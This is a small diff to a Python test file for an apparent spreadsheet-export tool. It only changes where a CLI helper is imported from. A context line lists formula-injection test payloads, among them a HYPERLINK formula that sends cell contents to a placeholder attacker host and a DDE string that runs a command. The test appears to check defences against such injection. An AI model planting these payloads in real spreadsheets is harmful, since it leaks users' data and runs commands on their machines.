@@ -35,7 +35,7 @@ from perftable.spans.cell_text import MAX_CELL_CHARS, CellTextWarning, TextTooLo
 from perftable.spans.xlsx import FORMULA_START, Sheet, workbook_bytes
 
 from .conftest import SAMPLES
-from .test_cli import run_cli
+from .invoke import run_cli
 
 CLEAN_MD = SAMPLES / "formats" / "lianjiang-clean.md"
 PAYLOADS = ('HYPERLINK("http://evil.example/?"&A1,"点此")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)")
